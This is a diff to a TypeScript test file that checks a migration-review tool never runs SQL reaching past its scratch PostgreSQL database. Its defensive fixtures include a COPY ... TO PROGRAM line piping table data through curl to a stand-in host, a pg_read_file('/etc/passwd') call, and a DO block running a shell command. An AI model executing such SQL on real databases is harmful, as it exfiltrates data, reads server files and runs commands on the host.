@@ -76,8 +76,7 @@ describe("a plan's SQL on the live database stage (embedded PostgreSQL)", () => 
     const md = renderPlan(checked);
     expect(checked.migrations[0].check!.live).toEqual({ kind: 'failed', error: 'relation "public.rooms" does not exist', line: 2 });
     expect(md).toContain('   ❌ PostgreSQL refuses it on the replayed schema (line 2 of the block): relation "public.rooms" does not exist');
-    expect(md).toContain('   Not applied: migration 1 of this plan fails first.');
-    expect(md).toContain('   Not applied: migration 1 of this plan fails.');
+    expect(md.match(/ {3}Not applied: migration 1 of this plan fails\./g)).toHaveLength(2);
     expect(md).not.toContain('Applies cleanly');
   });
 
@@ -142,5 +141,29 @@ describe("a plan's SQL on the live database stage (embedded PostgreSQL)", () => 
     expect(renderPlan(checked)).toContain('⚠️ Parsed only, not checked live: the live database stage stayed busy with other work for 1 s.');
     release();
     await review;
+  });
+  it('never runs SQL that reaches past the scratch database, wherever the plan got it, and says the block was not checked live', async () => {
+    const checked = await check(
+      plan(
+        [
+          { path: M(1, 'ok'), sql: 'alter table public.lessons add column note text;' },
+          { path: M(2, 'copy'), sql: "copy public.lessons to program 'curl -d @- https://example.invalid';" },
+          { path: M(3, 'after'), sql: NOTES + OWNER_POLICIES },
+        ],
+        [{ title: 'Read', files: [], sql: "select pg_read_file('/etc/passwd');" }],
+      ),
+    );
+    const md = renderPlan(checked);
+    expect(checked.migrations.map((m) => m.check!.live!.kind)).toEqual(['applied', 'not run', 'not run']);
+    expect(md).toContain('   Not applied: the live check never runs COPY (it reads or writes files or programs of the server).');
+    expect(md).toContain('   Not applied: migration 2 of this plan was not run.');
+    expect(md).toContain('RLS not probed: migration 2 of this plan was not run.');
+    expect(checked.steps[0].check!.live).toEqual({ kind: 'not run', reason: 'migration 2 of this plan was not run' });
+    const body = "do $$ begin execute 'copy public.lessons to program ''id'''; end $$;";
+    const alone = await check(plan([], [{ title: 'Read', files: [], sql: "select pg_read_file('/etc/passwd');" }, { title: 'Do', files: [], sql: body }]));
+    expect(alone.steps.map((s) => s.check!.live)).toEqual([
+      { kind: 'not run', reason: 'the live check never runs a call of pg_read_file() (it reaches past the scratch database)' },
+      { kind: 'not run', reason: 'the live check never runs a body that copies to or from programs or reads server files' },
+    ]);
   });
 });
